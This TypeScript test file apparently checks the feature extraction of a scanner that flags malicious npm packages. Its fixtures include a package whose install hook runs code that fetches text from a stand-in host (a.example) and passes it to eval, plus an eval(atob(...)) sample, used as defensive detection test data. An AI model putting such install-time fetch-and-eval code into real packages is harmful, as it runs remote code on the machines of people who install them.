import { describe, expect, it } from 'vitest'
import { packageOf } from '../../test/samples.ts'
import { gatherFacts } from '../analysis/gather.ts'
import { detectors } from '../detectors/index.ts'
import { run } from '../detectors/detector.ts'
import { featuresOf } from './features.ts'
import { loadModel } from './model.ts'

function features(files: Record<string, string>): Record<string, number> {
  const { pkg, outside } = packageOf({ says: '', ecosystem: 'npm', files })
  const facts = gatherFacts(pkg)
  return featuresOf(pkg, facts, detectors.map((detector) => run(detector, pkg, facts, outside)))
}

describe('what the model sees', () => {
  const hook = { 'package.json': '{"scripts":{"install":"node a.js"}}' }

  it('counts facts by how little it takes to run them', () => {
    const seen = features({ ...hook, 'a.js': `fetch('https://a.example').then((r) => r.text()).then((t) => eval(t))` })
    expect(seen['execute<fetched> now']).toBe(1)
    expect(seen['execute<fetched> later']).toBe(0)
    expect(seen['fetch unasked']).toBe(1)
  })

  it('tells what waits for a call', () => {
    const seen = features({ 'package.json': '{"main":"a.js"}', 'a.js': `exports.f = () => fetch('https://a.example').then((r) => r.text()).then((t) => eval(t))` })
    expect(seen['execute<fetched> later']).toBe(1)
  })

  it('is finite and complete for an empty package', () => {
    const seen = features({})
    expect(Object.values(seen).every(Number.isFinite)).toBe(true)
    expect(Object.keys(seen)).toEqual(Object.keys(features({ ...hook, 'a.js': 'eval(atob("eA=="))' })))
  })

  it('gives the model every feature that it was trained on', () => {
    const seen = features({})
    expect((loadModel()?.features ?? []).filter((name) => !(name in seen))).toEqual([])
  })
})
